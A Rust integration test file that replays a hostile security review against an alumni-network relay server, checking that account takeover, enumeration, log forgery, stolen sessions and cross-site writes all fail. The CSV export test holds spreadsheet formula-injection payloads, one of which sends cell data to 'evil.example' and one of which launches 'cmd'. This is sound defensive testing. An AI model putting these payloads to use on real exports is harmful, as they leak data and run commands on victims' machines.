//! The attacks of the hostile review (issue 8), each performed against a real relay as an
//! attacker would, kept for good: one test per item, named after the attack that must fail.
//! `docs/security.md` maps each promise of the relay to the test here that proves it.

mod common;

use std::time::Duration;

use common::events::{JAN_15_2030, create_event, device_with, relay_copy};
use common::{SmtpSink, TestRelay, call, error_code, post_session, session_cookie, sign_in};
use reqwest::{Method, StatusCode};
use serde_json::json;
use tsunagu_core::api::{Me, NetworkInfo};
use tsunagu_core::checkin::{CheckinLog, Scan};
use tsunagu_core::event::{EventStatus, SeatStatus};
use tsunagu_core::vocab::Role;
use tsunagu_server::{DEMO_PASSWORD, Rate, Server};

const ADMIN: &str = "admin@example.com";

/// One leaver, as HR exports them.
const LEAVER: &str = "社員番号,氏名,メールアドレス,入社日,退職日,部署\n\
    E2001,鈴木 一郎,ichiro@example.net,2012-04,2021-03,経理部\n";

async fn import_leaver(relay: &TestRelay, admin: &str) {
    let response = reqwest::Client::new()
        .post(relay.url("/api/admin/import"))
        .header("cookie", admin)
        .header("content-type", "text/csv")
        .body(LEAVER)
        .send()
        .await
        .expect("the relay answers");
    assert_eq!(response.status(), StatusCode::OK);
}

/// An application from `from` (sent as the client address a trusted proxy forwards).
async fn apply_from(relay: &TestRelay, from: &str, body: serde_json::Value) -> reqwest::Response {
    reqwest::Client::new()
        .post(relay.url("/api/applications"))
        .header("x-forwarded-for", from)
        .json(&body)
        .send()
        .await
        .expect("the relay answers")
}

/// The addresses a raw mail was sent to.
fn recipients(raw: &str) -> String {
    raw.lines()
        .filter(|l| l.to_ascii_lowercase().starts_with("to:") || l.starts_with("X-RcptTo"))
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test]
async fn item1_applying_with_a_leavers_email_or_number_signs_no_one_in_and_says_nothing() {
    let sink = SmtpSink::start();
    let smtp_url = sink.url();
    let relay = TestRelay::start_configured(|config| config.smtp_url = Some(smtp_url)).await;
    let (admin, _) = sign_in(relay.addr(), ADMIN).await;
    import_leaver(&relay, &admin).await;

    let attempts = [
        // HR's email for the leaver, which the attacker does not hold.
        json!({ "name": "x", "email": "ichiro@example.net", "password": "attacker-password" }),
        // HR's employee number with the name on record, and the attacker's own email.
        json!({ "name": "鈴木一郎", "email": "evil@example.org", "employee_number": "E2001",
                "password": "attacker-password" }),
        // A member's email.
        json!({ "name": "x", "email": "hanako@example.com", "password": "attacker-password" }),
        // Nobody HR knows, twice.
        json!({ "name": "x", "email": "nobody@example.org", "password": "attacker-password" }),
        json!({ "name": "x", "email": "nobody@example.org", "password": "attacker-password" }),
    ];
    let mut bodies = Vec::new();
    for attempt in attempts {
        let response = call(
            &relay,
            Method::POST,
            "/api/applications",
            None,
            Some(attempt),
        )
        .await;
        assert_eq!(response.status(), StatusCode::ACCEPTED);
        assert!(session_cookie(&response).is_none(), "no session, ever");
        bodies.push(response.text().await.expect("a body"));
    }
    assert!(
        bodies.iter().all(|b| *b == bodies[0]),
        "every answer is the same: {bodies:?}"
    );
    // Signing in with the password applied with answers the same for every email — a leaver's
    // HR address, a number's match, a member's email, one applied with twice: "your application
    // waits" — so it tells nothing of which were taken, and signs no one in.
    let mut answers = Vec::new();
    for email in [
        "ichiro@example.net",
        "evil@example.org",
        "hanako@example.com",
        "nobody@example.org",
    ] {
        let refused = post_session(relay.addr(), email, "attacker-password").await;
        assert!(session_cookie(&refused).is_none(), "{email} is no member");
        answers.push((refused.status(), refused.text().await.expect("a body")));
    }
    assert!(
        answers.iter().all(|a| *a == answers[0]),
        "every answer is the same: {answers:?}"
    );
    assert_eq!(answers[0].0, StatusCode::FORBIDDEN);
    assert!(answers[0].1.contains("application-pending"));
    // Hanako's account is untouched.
    sign_in(relay.addr(), "hanako@example.com").await;

    // Mail goes only where the real people read it: two confirmation links to the address HR
    // has, and a note to Hanako that she already has an account. Never to the attacker.
    let mut to_ichiro = 0;
    for n in 1..=3 {
        let (raw, text) = sink.mail(n).await;
        let to = recipients(&raw);
        assert!(!to.contains("evil@example.org"), "{raw}");
        if to.contains("ichiro@example.net") {
            to_ichiro += 1;
            assert!(text.contains("/#/confirm/"), "{text}");
        } else {
            assert!(to.contains("hanako@example.com"), "{raw}");
            assert!(text.contains("すでにあります"), "{text}");
        }
    }
    assert_eq!(to_ichiro, 2);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(sink.count(), 3, "nothing for the unknown applicant");
}

#[tokio::test]
async fn item1_walking_employee_numbers_is_throttled_per_address_and_overall() {
    let relay = TestRelay::start_configured(|config| {
        config.trusted_proxies = vec!["127.0.0.1".parse().expect("an address")];
        config.limits.applications_per_address = Rate {
            burst: 3,
            per_hour: 0,
        };
        config.limits.applications_overall = Rate {
            burst: 5,
            per_hour: 0,
        };
    })
    .await;
    let guess = |n: u32| {
        json!({ "name": "鈴木一郎", "email": format!("walker{n}@example.org"),
                "employee_number": format!("E{n:04}"), "password": "walker-password" })
    };
    for n in 0..3 {
        let response = apply_from(&relay, "203.0.113.1", guess(n)).await;
        assert_eq!(response.status(), StatusCode::ACCEPTED);
    }
    let throttled = apply_from(&relay, "203.0.113.1", guess(3)).await;
    assert_eq!(
        error_code(throttled, StatusCode::TOO_MANY_REQUESTS).await,
        "too-many-attempts"
    );
    // Another address has its own budget, until the overall one runs out.
    for n in 10..12 {
        let response = apply_from(&relay, "203.0.113.2", guess(n)).await;
        assert_eq!(response.status(), StatusCode::ACCEPTED);
    }
    let overall = apply_from(&relay, "203.0.113.3", guess(20)).await;
    assert_eq!(overall.status(), StatusCode::TOO_MANY_REQUESTS);
}

/// A relay on a fresh data directory, started as the binary starts it without `--demo`.
async fn fresh_relay(dir: &tempfile::TempDir) -> Server {
    Server::start(common::config(dir.path().join("data"), dir.path().join("dist")).await)
        .await
        .expect("the relay starts")
}

async fn network(addr: std::net::SocketAddr) -> NetworkInfo {
    reqwest::get(format!("http://{addr}/api/network"))
        .await
        .expect("the relay answers")
        .json()
        .await
        .expect("a NetworkInfo")
}

#[tokio::test]
async fn item2_a_fresh_relay_has_no_demo_password_and_is_set_up_once_with_its_link() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = fresh_relay(&dir).await;
    let addr = server.local_addr();
    assert!(!server.has_demo());
    assert!(!network(addr).await.demo, "no demo sign-ins to show");
    let refused = post_session(addr, ADMIN, DEMO_PASSWORD).await;
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED, "no demo admin");
    assert!(!network(addr).await.set_up);

    let link = server.setup_link().expect("a setup link is printed");
    let token = link.rsplit_once("/#/setup/").expect("a setup link").1;
    let form = |token: &str, zone: &str| {
        json!({
            "token": token, "organisation": "株式会社みらい", "organisation_en": "Mirai Inc.",
            "language": "en", "time_zone": zone, "admin_name": "山本 彩",
            "admin_email": "Aya@Mirai.example", "admin_password": "first-admin-password"
        })
    };
    let post = |body: serde_json::Value| async move {
        reqwest::Client::new()
            .post(format!("http://{addr}/api/setup"))
            .json(&body)
            .send()
            .await
            .expect("the relay answers")
    };
    let guessed = post(form("not-the-token", "Europe/Berlin")).await;
    assert_eq!(
        error_code(guessed, StatusCode::NOT_FOUND).await,
        "setup-link-invalid"
    );
    let bad_zone = post(form(token, "Mars/Olympus")).await;
    assert_eq!(
        error_code(bad_zone, StatusCode::BAD_REQUEST).await,
        "bad-request"
    );

    let done = post(form(token, "Europe/Berlin")).await;
    assert_eq!(done.status(), StatusCode::OK);
    assert!(
        session_cookie(&done).is_some(),
        "the new admin is signed in"
    );
    let me: Me = done.json().await.expect("Me");
    assert_eq!(me.roles, [Role::Admin]);
    assert_eq!(me.email, "aya@mirai.example");
    assert_eq!(me.organisation, "株式会社みらい");
    assert!(me.organisation_doc.is_some());

    let twice = post(form(token, "Europe/Berlin")).await;
    assert_eq!(
        error_code(twice, StatusCode::CONFLICT).await,
        "already-set-up"
    );
    let info = network(addr).await;
    assert!(info.set_up);
    assert_eq!(
        (
            info.name_en.as_str(),
            info.language.as_str(),
            info.time_zone.as_str()
        ),
        ("Mirai Inc.", "en", "Europe/Berlin")
    );
    let signed_in = post_session(addr, "aya@mirai.example", "first-admin-password").await;
    assert_eq!(signed_in.status(), StatusCode::OK);

    // Started again, it prints no link: the network exists.
    server.stop().await;
    let again = fresh_relay(&dir).await;
    assert_eq!(again.setup_link(), None);
}

#[tokio::test]
async fn item2_the_setup_command_works_once_and_needs_no_password_on_its_command_line() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let data = dir.path().join("data");
    let database = common::database_args(&data).await;
    let setup = || {
        std::process::Command::new(env!("CARGO_BIN_EXE_tsunagu-server"))
            .args(["setup", "--data"])
            .arg(&data)
            .args(&database)
            .args([
                "--organisation",
                "株式会社みらい",
                "--admin-name",
                "山本 彩",
                "--admin-email",
                "aya@mirai.example",
            ])
            .env("TSUNAGU_ADMIN_PASSWORD", "first-admin-password")
            .env("RUST_LOG", "warn")
            .output()
            .expect("the binary runs")
    };
    let first = setup();
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let second = setup();
    assert!(!second.status.success());
    assert!(String::from_utf8_lossy(&second.stderr).contains("already set up"));

    let server = fresh_relay(&dir).await;
    assert_eq!(server.setup_link(), None);
    let signed_in = post_session(
        server.local_addr(),
        "aya@mirai.example",
        "first-admin-password",
    )
    .await;
    assert_eq!(signed_in.status(), StatusCode::OK);
    let me: Me = signed_in.json().await.expect("Me");
    assert_eq!(me.roles, [Role::Admin]);
    let info = network(server.local_addr()).await;
    assert_eq!(
        (info.language.as_str(), info.time_zone.as_str()),
        ("ja", "Asia/Tokyo")
    );
}

#[tokio::test]
async fn item3_a_scan_in_the_check_in_log_cannot_be_overwritten_or_added_to() {
    let relay = TestRelay::start().await;
    let (admin, _) = sign_in(relay.addr(), ADMIN).await;
    let event = create_event(&relay, &admin, "同期会", JAN_15_2030).await;
    let log = event.checkins.expect("admins read the check-in log");
    let relay_storage = common::events::me(&relay, &admin).await.relay_storage;
    // Two gates hold the empty log; the second then hears nothing more (its socket unread).
    let mut first = device_with(&relay, &admin, &[log]).await;
    let mut second = device_with(&relay, &admin, &[log]).await;
    let scan = |ticket: &str| Scan {
        ticket: ticket.into(),
        attendee: "u-hanako".into(),
        device: "gate".into(),
        by: "admin".into(),
        at: JAN_15_2030,
        method: "qr".into(),
    };
    first
        .change(log, |tx| {
            CheckinLog::record(tx, "n1", &scan("t-hanako"))
                .map(drop)
                .map_err(|e| e.to_string())
        })
        .await;
    first.wait_acknowledged(&relay_storage).await;

    // The second gate writes its own n1: no predecessor, yet it would win what the log reads.
    second
        .change(log, |tx| {
            CheckinLog::record(tx, "n1", &scan("t-forged"))
                .map(drop)
                .map_err(|e| e.to_string())
        })
        .await;
    let reason = second.wait_rejected(log).await;
    assert!(reason.contains("/scans/n1"), "{reason}");

    // Writing into the scan that is there is refused too.
    let mut third = device_with(&relay, &admin, &[log]).await;
    third
        .change(log, |tx| {
            use automerge::ReadDoc;
            use automerge::transaction::Transactable;
            let scans = tx
                .get(automerge::ROOT, "scans")
                .ok()
                .flatten()
                .ok_or("scans")?
                .1;
            let entry = tx.get(&scans, "n1").ok().flatten().ok_or("n1")?.1;
            tx.put(&entry, "note", "nothing happened")
                .map_err(|e| e.to_string())
        })
        .await;
    let reason = third.wait_rejected(log).await;
    assert!(reason.contains("/scans/n1/note"), "{reason}");

    let now = CheckinLog::read(&relay_copy(&relay, &admin, log).await).expect("a log");
    assert_eq!(now.scans.len(), 1);
    assert_eq!(now.scans["n1"].ticket, "t-hanako");
}

/// The cells of a CSV download (after its BOM), row by row.
async fn csv_cells(relay: &TestRelay, cookie: &str, path: &str) -> Vec<Vec<String>> {
    let response = call(relay, Method::GET, path, Some(cookie), None).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let bytes = response.bytes().await.expect("a body");
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a BOM");
    csv::Reader::from_reader(body)
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn item6_a_formula_in_a_name_or_a_title_stays_text_in_every_csv_export() {
    const NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
    const TITLE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    let relay = TestRelay::start().await;
    let (admin_cookie, admin) = sign_in(relay.addr(), ADMIN).await;
    let event = create_event(&relay, &admin_cookie, "忘年会", JAN_15_2030).await;
    let mut desk = device_with(&relay, &admin_cookie, &[event.event]).await;
    desk.edit_event(event.event, |e| {
        e.status = EventStatus::Published.key().into()
    })
    .await;
    desk.wait_acknowledged(&admin.relay_storage).await;

    // Hanako writes a formula as the reading of her name, which the attendee list shows, and
    // answers. (Her name on the list is the confirmed one: see item 8.)
    let (hanako_cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let (rsvps, passes) = (
        hanako.rsvps_doc.expect("rsvps"),
        hanako.passes_doc.expect("passes"),
    );
    let mut phone = device_with(&relay, &hanako_cookie, &[hanako.profile_doc, rsvps, passes]).await;
    phone
        .edit(hanako.profile_doc, |p| p.reading = NAME.into())
        .await;
    phone.wait_acknowledged(&hanako.relay_storage).await;
    phone
        .answer(rsvps, event.event, true, JAN_15_2030 - 86_400)
        .await;
    phone
        .wait_for_seat(passes, event.event, SeatStatus::Confirmed)
        .await;
    // Ken proposes an event whose title is a formula; the audit log names it.
    let (ken_cookie, _) = sign_in(relay.addr(), "ken@example.com").await;
    create_event(&relay, &ken_cookie, TITLE, JAN_15_2030).await;

    let attendees = csv_cells(
        &relay,
        &admin_cookie,
        &format!("/api/events/{}/attendees.csv", event.event),
    )
    .await;
    let audit = csv_cells(&relay, &admin_cookie, "/api/admin/audit.csv?lang=en").await;
    let cells: Vec<&String> = attendees.iter().chain(&audit).flatten().collect();
    assert!(
        cells.iter().any(|c| **c == format!("'{NAME}")),
        "{attendees:?}"
    );
    assert!(
        cells.iter().any(|c| **c == format!("'{TITLE}")),
        "{audit:?}"
    );
    for cell in cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {cell:?}"
        );
    }
}

/// Whether any change in `doc`'s history puts a text holding `needle`.
fn history_mentions(doc: &automerge::Automerge, needle: &str) -> bool {
    use automerge::ScalarValue;
    use automerge::legacy::OpType;
    doc.get_changes(&[]).iter().any(|change| {
        change.decode().operations.iter().any(
            |op| matches!(&op.action, OpType::Put(ScalarValue::Str(text)) if text.contains(needle)),
        )
    })
}

#[tokio::test]
async fn item10_a_deleted_account_leaves_only_its_anonymised_audit_rows() {
    const NAME: &str = "小野 誠";
    const EMAIL: &str = "makoto@example.org";
    let relay = TestRelay::start().await;
    let (admin_cookie, admin) = sign_in(relay.addr(), ADMIN).await;
    let applied = call(
        &relay,
        Method::POST,
        "/api/applications",
        None,
        Some(
            json!({ "name": NAME, "email": EMAIL, "employee_number": "E9001",
                     "password": "makoto-password" }),
        ),
    )
    .await;
    assert_eq!(applied.status(), StatusCode::ACCEPTED);
    let pending: Vec<tsunagu_core::api::Application> =
        common::get_json(&relay, "/api/admin/applications", &admin_cookie).await;
    let his = pending
        .iter()
        .find(|a| a.email == EMAIL)
        .expect("his application");
    let approved = call(
        &relay,
        Method::POST,
        &format!("/api/admin/applications/{}/approve", his.id),
        Some(&admin_cookie),
        None,
    )
    .await;
    assert_eq!(approved.status(), StatusCode::OK);

    // He takes a seat: his name is in the event's roster, which the admin's desk holds.
    let event = create_event(&relay, &admin_cookie, "同期会", JAN_15_2030).await;
    let roster = event.roster.expect("admins read rosters");
    let mut desk = device_with(&relay, &admin_cookie, &[event.event, roster]).await;
    desk.edit_event(event.event, |e| {
        e.status = EventStatus::Published.key().into()
    })
    .await;
    desk.wait_acknowledged(&admin.relay_storage).await;
    let signed_in = post_session(relay.addr(), EMAIL, "makoto-password").await;
    let makoto_cookie = session_cookie(&signed_in).expect("he signs in");
    let makoto: Me = signed_in.json().await.expect("Me");
    let (rsvps, passes) = (
        makoto.rsvps_doc.expect("rsvps"),
        makoto.passes_doc.expect("passes"),
    );
    let mut phone = device_with(&relay, &makoto_cookie, &[rsvps, passes]).await;
    phone
        .answer(rsvps, event.event, true, JAN_15_2030 - 86_400)
        .await;
    phone
        .wait_for_seat(passes, event.event, SeatStatus::Confirmed)
        .await;
    let user = makoto.user_id.clone();
    desk.pump_until("his name in the roster", move |d| {
        d.roster(&roster).attendees.contains_key(&user)
    })
    .await;

    let deleted = call(
        &relay,
        Method::DELETE,
        "/api/me",
        Some(&makoto_cookie),
        None,
    )
    .await;
    assert_eq!(deleted.status(), StatusCode::NO_CONTENT);

    // The desk is told to fetch the roster again; neither its copy nor the relay's holds his
    // name anywhere in their history.
    let user = makoto.user_id.clone();
    desk.pump_until("the roster without him", move |d| {
        d.engine.doc(&roster).is_some_and(|doc| {
            let r = tsunagu_core::event::Roster::read(doc).unwrap_or_default();
            !r.checkins.is_empty() && !r.attendees.contains_key(&user)
        })
    })
    .await;
    assert!(!history_mentions(
        desk.engine.doc(&roster).expect("held"),
        NAME
    ));
    assert!(!history_mentions(
        &relay_copy(&relay, &admin_cookie, roster).await,
        NAME
    ));
    assert!(desk.received.iter().any(|m| matches!(
        m,
        tsunagu_core::wire::Message::ChangeRejected { reason, .. }
            if reason.starts_with(tsunagu_core::api::DOCUMENT_RESET)
    )));

    // No application row, and his email nowhere in the audit log, whose rows remain.
    let applications: Vec<tsunagu_core::api::Application> =
        common::get_json(&relay, "/api/admin/applications", &admin_cookie).await;
    assert!(
        applications.iter().all(|a| a.email != EMAIL),
        "{applications:?}"
    );
    let audit = csv_cells(&relay, &admin_cookie, "/api/admin/audit.csv?lang=en").await;
    assert!(
        audit
            .iter()
            .flatten()
            .all(|cell| !cell.contains(EMAIL) && !cell.contains(NAME))
    );
    for action in ["Applied to join", "Approved application", "Deleted account"] {
        assert!(
            audit.iter().any(|row| row[2] == action),
            "{action} stays: {audit:?}"
        );
    }
}

/// The protocol `error` the relay sends before closing a socket, if it does within `PATIENCE`.
async fn closing_error(socket: &mut common::Socket) -> Option<String> {
    while let Some(message) = common::next_message(socket).await {
        if let tsunagu_core::wire::Message::Error { message } = message {
            return Some(message);
        }
    }
    None
}

/// Pumps `device` for a while; whether `seen` came to hold in that time.
async fn sees_within(
    device: &mut common::Device,
    ms: u64,
    seen: impl Fn(&common::Device) -> bool,
) -> bool {
    tokio::time::timeout(
        Duration::from_millis(ms),
        device.pump_until("a change that must not come", seen),
    )
    .await
    .is_ok()
}

async fn set_roles(relay: &TestRelay, admin: &str, user: &str, roles: &[Role]) {
    let response = call(
        relay,
        Method::PUT,
        &format!("/api/admin/members/{user}/roles"),
        Some(admin),
        Some(json!({ "roles": roles })),
    )
    .await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn item4_a_demoted_admin_loses_what_only_admins_may_do_while_connected() {
    let relay = TestRelay::start().await;
    let (admin, _) = sign_in(relay.addr(), ADMIN).await;
    let (ken_cookie, ken) = sign_in(relay.addr(), "ken@example.com").await;
    set_roles(&relay, &admin, &ken.user_id, &[Role::Admin, Role::Alumni]).await;
    let org = ken.organisation_doc.expect("the organisation's document");
    let mut desk = device_with(&relay, &ken_cookie, &[org]).await;

    set_roles(&relay, &admin, &ken.user_id, &[Role::Alumni]).await;
    let told = closing_error(&mut desk.socket).await.expect("told why");
    assert!(
        told.starts_with(tsunagu_core::api::PERMISSIONS_CHANGED),
        "{told}"
    );
    assert!(common::closes(&mut desk.socket).await);

    // Connected again, he writes as the alumnus he now is.
    let mut desk = device_with(&relay, &ken_cookie, &[org]).await;
    desk.change(org, |tx| {
        use automerge::transaction::Transactable;
        tx.put(automerge::ROOT, "name", "乗っ取り株式会社")
            .map(drop)
            .map_err(|e| e.to_string())
    })
    .await;
    let reason = desk.wait_rejected(org).await;
    assert!(reason.contains("/name"), "{reason}");
}

#[tokio::test]
async fn item4_hiding_or_a_suspension_stops_a_profile_at_once_for_readers_already_connected() {
    let relay = TestRelay::start().await;
    let (admin, _) = sign_in(relay.addr(), ADMIN).await;
    let (hanako_cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let (ken_cookie, _) = sign_in(relay.addr(), "ken@example.com").await;
    let hers = hanako.profile_doc;
    let mut phone = device_with(&relay, &hanako_cookie, &[hers]).await;
    let mut reader = device_with(&relay, &ken_cookie, &[hers]).await;

    // She hides, then edits: Ken's connected phone gets nothing more of her.
    let hidden = call(
        &relay,
        Method::PUT,
        "/api/me/directory",
        Some(&hanako_cookie),
        Some(json!({ "hidden": true })),
    )
    .await;
    assert_eq!(hidden.status(), StatusCode::NO_CONTENT);
    phone
        .edit(hers, |p| p.title = "見せたくない肩書".into())
        .await;
    phone.wait_acknowledged(&hanako.relay_storage).await;
    let leaked = sees_within(&mut reader, 700, move |d| {
        d.profile(&hers)
            .is_some_and(|p| p.title == "見せたくない肩書")
    })
    .await;
    assert!(
        !leaked,
        "a hidden member's edit reached a reader already connected"
    );

    // Listed again, then suspended by an admin: an admin's correction of her years no longer
    // reaches Ken either.
    let listed = call(
        &relay,
        Method::PUT,
        "/api/me/directory",
        Some(&hanako_cookie),
        Some(json!({ "hidden": false })),
    )
    .await;
    assert_eq!(listed.status(), StatusCode::NO_CONTENT);
    let mut reader = device_with(&relay, &ken_cookie, &[hers]).await;
    let suspended = call(
        &relay,
        Method::POST,
        &format!("/api/admin/members/{}/suspend", hanako.user_id),
        Some(&admin),
        None,
    )
    .await;
    assert_eq!(suspended.status(), StatusCode::NO_CONTENT);
    let mut desk = device_with(&relay, &admin, &[hers]).await;
    desk.edit(hers, |p| p.joined = "2001-04".into()).await;
    let leaked = sees_within(&mut reader, 700, move |d| {
        d.profile(&hers).is_some_and(|p| p.joined == "2001-04")
    })
    .await;
    assert!(
        !leaked,
        "a suspended member's profile reached a reader already connected"
    );
}

#[tokio::test]
async fn item4_an_expired_session_closes_its_open_socket() {
    let relay = TestRelay::start_configured(|config| {
        config.limits.session_lifetime = Duration::from_secs(2);
    })
    .await;
    let (cookie, me) = sign_in(relay.addr(), "hanako@example.com").await;
    let mut phone = device_with(&relay, &cookie, &[me.profile_doc]).await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    // Its answer is the closing error read below.
    phone
        .edit_in_flight(me.profile_doc, |p| p.title = "期限切れ".into())
        .await;
    let told = closing_error(&mut phone.socket).await.expect("told why");
    assert!(told.starts_with(tsunagu_core::api::SESSION_ENDED), "{told}");
    let again = call(&relay, Method::GET, "/api/me", Some(&cookie), None).await;
    assert_eq!(again.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn item5_a_stolen_session_cannot_move_to_another_device_and_dies_with_its_device() {
    let relay = TestRelay::start().await;
    let (stolen, me) = sign_in(relay.addr(), "hanako@example.com").await;
    let phone = device_with(&relay, &stolen, &[me.profile_doc]).await;
    assert_eq!(
        phone.cookie, stolen,
        "her phone syncs with the session that was stolen"
    );

    // The thief's own storage: refused, the session belongs to her phone.
    let mut elsewhere = common::joined(&relay, &stolen, "thief", Some("thiefs-laptop")).await;
    let told = closing_error(&mut elsewhere).await.expect("refused");
    assert!(told.starts_with(tsunagu_core::api::SESSION_ENDED), "{told}");
    // As an ephemeral peer the session still works — until she removes the phone.
    let mut ephemeral = common::joined(&relay, &stolen, "thief", None).await;
    assert!(matches!(
        common::next_message(&mut ephemeral).await,
        Some(tsunagu_core::wire::Message::Peer { .. })
    ));
    let (laptop, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let devices: Vec<tsunagu_core::api::DeviceInfo> =
        common::get_json(&relay, "/api/devices", &laptop).await;
    assert_eq!(devices.len(), 1, "{devices:?}");
    let removed = call(
        &relay,
        Method::DELETE,
        &format!("/api/devices/{}", devices[0].id),
        Some(&laptop),
        None,
    )
    .await;
    assert_eq!(removed.status(), StatusCode::NO_CONTENT);
    assert!(
        common::closes(&mut ephemeral).await,
        "the thief's socket closes"
    );
    let api = call(&relay, Method::GET, "/api/me", Some(&stolen), None).await;
    assert_eq!(
        api.status(),
        StatusCode::UNAUTHORIZED,
        "and the API refuses the session"
    );
    assert!(
        common::open_socket(relay.addr(), Some(&stolen))
            .await
            .is_err()
    );
    let still = call(&relay, Method::GET, "/api/me", Some(&laptop), None).await;
    assert_eq!(still.status(), StatusCode::OK, "her laptop is unaffected");
}

#[tokio::test]
async fn item5_a_passkey_a_new_password_or_deletion_needs_a_recent_sign_in() {
    let relay = TestRelay::start_configured(|config| {
        config.limits.recent_sign_in = Duration::from_secs(1);
    })
    .await;
    let (old, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let (other, _) = sign_in(relay.addr(), "hanako@example.com").await;
    // Sign-in times are whole seconds.
    tokio::time::sleep(Duration::from_millis(2100)).await;
    let attempts = [
        (Method::POST, "/api/passkeys/register/start", None),
        (
            Method::PUT,
            "/api/me/password",
            Some(json!({ "new_password": "a-thiefs-password" })),
        ),
        (Method::DELETE, "/api/me", None),
    ];
    for (method, path, body) in attempts.clone() {
        let response = call(&relay, method, path, Some(&old), body).await;
        assert_eq!(
            error_code(response, StatusCode::FORBIDDEN).await,
            "reauthentication-required",
            "{path}"
        );
    }
    // She signs in again on the same browser: a fresh session, the old one ended.
    let again = reqwest::Client::new()
        .post(relay.url("/api/session"))
        .header("cookie", &old)
        .json(&json!({ "email": "hanako@example.com", "password": DEMO_PASSWORD }))
        .send()
        .await
        .expect("the relay answers");
    assert_eq!(again.status(), StatusCode::OK);
    let fresh = session_cookie(&again).expect("a new session");
    let gone = call(&relay, Method::GET, "/api/me", Some(&old), None).await;
    assert_eq!(gone.status(), StatusCode::UNAUTHORIZED);
    let start = call(
        &relay,
        Method::POST,
        "/api/passkeys/register/start",
        Some(&fresh),
        None,
    )
    .await;
    assert_eq!(start.status(), StatusCode::OK);
    let changed = call(
        &relay,
        Method::PUT,
        "/api/me/password",
        Some(&fresh),
        Some(json!({ "new_password": "hanako-new-password" })),
    )
    .await;
    assert_eq!(changed.status(), StatusCode::NO_CONTENT);
    // Every other session ends with the old password; hers goes on.
    let elsewhere = call(&relay, Method::GET, "/api/me", Some(&other), None).await;
    assert_eq!(elsewhere.status(), StatusCode::UNAUTHORIZED);
    let mine = call(&relay, Method::GET, "/api/me", Some(&fresh), None).await;
    assert_eq!(mine.status(), StatusCode::OK);
    let old_password = post_session(relay.addr(), "hanako@example.com", DEMO_PASSWORD).await;
    assert_eq!(old_password.status(), StatusCode::UNAUTHORIZED);
    let new_password =
        post_session(relay.addr(), "hanako@example.com", "hanako-new-password").await;
    assert_eq!(new_password.status(), StatusCode::OK);
}

#[tokio::test]
async fn item5_signing_out_everywhere_ends_every_session_and_socket() {
    let relay = TestRelay::start().await;
    let (phone_cookie, me) = sign_in(relay.addr(), "hanako@example.com").await;
    let (laptop_cookie, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let mut phone = device_with(&relay, &phone_cookie, &[me.profile_doc]).await;
    let mut laptop = device_with(&relay, &laptop_cookie, &[me.profile_doc]).await;
    let out = call(
        &relay,
        Method::DELETE,
        "/api/sessions",
        Some(&laptop_cookie),
        None,
    )
    .await;
    assert_eq!(out.status(), StatusCode::NO_CONTENT);
    for device in [&mut phone, &mut laptop] {
        let told = closing_error(&mut device.socket).await.expect("told why");
        assert!(told.starts_with(tsunagu_core::api::SESSION_ENDED), "{told}");
    }
    for cookie in [&phone_cookie, &laptop_cookie] {
        let api = call(&relay, Method::GET, "/api/me", Some(cookie), None).await;
        assert_eq!(api.status(), StatusCode::UNAUTHORIZED);
    }
}

#[tokio::test]
async fn item9_pages_carry_a_strict_policy_and_writes_from_other_sites_are_refused() {
    let relay = TestRelay::start().await;
    std::fs::create_dir_all(relay.dir.path().join("dist")).expect("a dist");
    std::fs::write(relay.dir.path().join("dist/index.html"), "<!doctype html>").expect("index");
    let page = reqwest::get(relay.url("/")).await.expect("the app");
    let header = |name: &str| {
        page.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let csp = header("content-security-policy");
    for directive in [
        "script-src 'self' 'wasm-unsafe-eval'",
        "frame-ancestors 'none'",
        "object-src 'none'",
        "connect-src 'self'",
    ] {
        assert!(csp.contains(directive), "{csp}");
    }
    assert!(!csp.contains("script-src 'self' 'unsafe-inline'"), "{csp}");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("referrer-policy"), "same-origin");
    let api = reqwest::get(relay.url("/api/network"))
        .await
        .expect("the API");
    assert_eq!(api.headers()["x-content-type-options"], "nosniff");

    // Hanako, signed in, visits a page of another site that posts to the relay.
    let (cookie, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let hide = |extra: (&'static str, &'static str)| {
        reqwest::Client::new()
            .put(relay.url("/api/me/directory"))
            .header("cookie", &cookie)
            .header(extra.0, extra.1)
            .json(&json!({ "hidden": true }))
            .send()
    };
    for forged in [
        ("origin", "https://evil.example"),
        ("sec-fetch-site", "cross-site"),
    ] {
        let refused = hide(forged).await.expect("the relay answers");
        assert_eq!(
            error_code(refused, StatusCode::FORBIDDEN).await,
            "forbidden"
        );
    }
    let now: Me = common::get_json(&relay, "/api/me", &cookie).await;
    assert!(!now.hidden_from_directory, "nothing changed");
    let own = hide(("sec-fetch-site", "same-origin"))
        .await
        .expect("answered");
    assert_eq!(own.status(), StatusCode::NO_CONTENT);

    // An HR import must say it is CSV: a plain-text post (what a form can send) is refused.
    let (admin, _) = sign_in(relay.addr(), ADMIN).await;
    let plain = reqwest::Client::new()
        .post(relay.url("/api/admin/import"))
        .header("cookie", &admin)
        .header("content-type", "text/plain")
        .body(LEAVER)
        .send()
        .await
        .expect("the relay answers");
    assert_eq!(plain.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
